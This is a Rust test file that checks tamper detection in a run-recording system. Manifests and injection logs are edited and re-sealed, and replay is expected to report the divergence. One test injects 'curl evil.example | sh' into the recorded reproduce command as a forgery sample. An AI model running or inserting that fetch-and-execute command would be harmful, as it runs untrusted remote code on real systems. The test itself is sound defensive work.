//! A recording that was edited and then sealed and chained anew: nothing in it contradicts anything
//! else, but a replay derives another one.

use std::fs;
use std::path::Path;

use tempfile::TempDir;
use turingos::Digest;
use turingos_run::replay::{Report, replay};
use turingos_run::soak::{Settings, Soak, on_virtual_time};
use turingos_run::{
    Cause, Divergence, Gate, LineChain, Manifest, Profile, RunDirectory, RunFolder, RunIoError,
    verify,
};

const TICKS: u64 = 60;

/// A finished soak whose liveness gate fails: it ended in a loop that a faithful reply could have
/// left, or simply one in which every kind of thing happened.
fn recorded() -> TempDir {
    let directory = TempDir::new().unwrap();
    let header = Settings::header(Profile::Hostile, 5, TICKS);
    let writer = RunDirectory::create(directory.path(), &header).unwrap();
    let mut soak = Soak::start_into(&header, writer);
    on_virtual_time(soak.drive()).unwrap();
    let manifest = soak.outcome().manifest(&header);
    soak.into_sink().finish(&manifest).unwrap();
    directory
}

fn manifest(run: &Path) -> Manifest {
    Manifest::from_bytes(&fs::read(run.join(RunDirectory::MANIFEST)).unwrap()).unwrap()
}

/// Edits the text of the manifest and seals it anew.
fn forge(run: &Path, from: &str, to: &str) {
    let path = run.join(RunDirectory::MANIFEST);
    let text = fs::read_to_string(&path).unwrap().replacen(from, to, 1);
    let (members, _) = text.rsplit_once(",\"seal\":").unwrap();
    let seal = Digest::of(members.as_bytes());
    let forged = format!("{members},\"seal\":\"{seal}\"}}\n");
    assert_ne!(fs::read_to_string(&path).unwrap(), forged, "{from}");
    fs::write(path, forged).unwrap();
}

fn diverged(run: &Path) -> Divergence {
    assert!(is_valid(run), "the forgery is not whole");
    match replay(run, None, |_| ()).unwrap_err() {
        RunIoError::Diverged(divergence) => *divergence,
        other => panic!("{other}"),
    }
}

fn is_valid(run: &Path) -> bool {
    let reports = verify::run(&RunFolder(run.to_path_buf()));
    reports.iter().all(|report| report.verdict.is_valid())
}

/// The one member that differs.
fn difference(divergence: &Divergence) -> (&str, Option<&str>, Option<&str>) {
    let [difference] = &*divergence.differences else {
        panic!("{divergence}");
    };
    (
        &difference.pointer,
        difference.recorded.as_deref(),
        difference.replayed.as_deref(),
    )
}

#[test]
fn forged_gate_is_a_divergence() {
    let run = recorded();
    let old = manifest(run.path());
    let gates: Vec<Gate> = (old.gates().iter().cloned())
        .enumerate()
        .map(|(number, gate)| match number {
            1 => Gate::judged(gate.id, false, gate.detail),
            _ => gate,
        })
        .collect();
    let forged = old.clone().with_gates(gates);
    fs::write(run.path().join(RunDirectory::MANIFEST), forged.to_bytes()).unwrap();
    let divergence = diverged(run.path());
    assert_eq!(
        (divergence.cause, divergence.tick),
        (Cause::ManifestChanged, TICKS)
    );
    assert_eq!(
        difference(&divergence),
        ("/gates/1/verdict", Some("\"fail\""), Some("\"pass\""))
    );
    // A gate that is left out, so that the run seems to pass.
    let fewer = old.gates()[1..].to_vec();
    let forged = old.with_gates(fewer);
    fs::write(run.path().join(RunDirectory::MANIFEST), forged.to_bytes()).unwrap();
    assert_eq!(diverged(run.path()).cause, Cause::ManifestChanged);
}

#[test]
fn forged_count_or_command_is_a_divergence() {
    let run = recorded();
    let counts = manifest(run.path()).counts().clone();
    // Not one that the journal tells.
    let (name, count) = { counts.iter() }
        .find(|(name, _)| {
            name.bytes()
                .all(|byte| byte.is_ascii_lowercase() || byte == b'_')
        })
        .unwrap();
    let member = |count: u64| format!("\"{name}\":{count}");
    forge(run.path(), &member(*count), &member(count + 1));
    let divergence = diverged(run.path());
    let pointer = format!("/counts/{name}");
    assert_eq!(divergence.cause, Cause::ManifestChanged);
    assert_eq!(difference(&divergence).0, pointer);

    let run = recorded();
    forge(run.path(), "sim soak", "curl evil.example | sh; sim soak");
    assert_eq!(difference(&diverged(run.path())).0, "/reproduce");
}

#[test]
fn forged_injection_is_a_divergence() {
    let run = recorded();
    let path = run.path().join(RunDirectory::INJECTIONS);
    let text = fs::read_to_string(&path).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let last = lines[lines.len() - 1];
    let other = last.replace("\"world_faults\":[", "\"world_faults\":[\"NOT_FOUND\",");
    let other = other.replace(",]", "]");
    for forged in [
        [&lines[..lines.len() - 1], &[other.as_str()][..]].concat(),
        lines[1..].to_vec(),
        lines[..lines.len() - 1].to_vec(),
    ] {
        let text: String = forged.iter().map(|line| format!("{line}\n")).collect();
        fs::write(&path, text).unwrap();
        let mut chain = LineChain::default();
        for line in forged {
            chain.line(line.as_bytes());
        }
        let anchor = manifest(run.path()).injections();
        let chain = chain.chain();
        let of = |lines: u64, head: Digest| format!("{{\"lines\":{lines},\"head\":\"{head}\"}}");
        let (old, new) = (
            of(anchor.lines, anchor.head),
            of(chain.count(), chain.head()),
        );
        forge(run.path(), &old, &new);
        let divergence = diverged(run.path());
        assert_eq!(divergence.cause, Cause::InjectionChanged, "{divergence}");
    }
}

/// What a chain without a key cannot show, the run itself does.
#[test]
fn replay_of_a_shortened_run_says_that_it_goes_on() {
    let run = recorded();
    fs::remove_file(run.path().join(RunDirectory::MANIFEST)).unwrap();
    let journal = run.path().join(RunDirectory::JOURNAL);
    let text = fs::read_to_string(&journal).unwrap();
    let replayed = |records: usize| -> Report {
        let half: String = text
            .lines()
            .take(records)
            .map(|line| format!("{line}\n"))
            .collect();
        fs::write(&journal, half).unwrap();
        assert!(is_valid(run.path()));
        replay(run.path(), None, |_| ()).unwrap()
    };
    let half = replayed(30);
    assert_eq!(
        (half.ticks, half.finished, half.continues),
        (30, false, true)
    );
    let whole = replayed(60);
    assert_eq!(
        (whole.ticks, whole.finished, whole.continues),
        (60, false, false)
    );
}
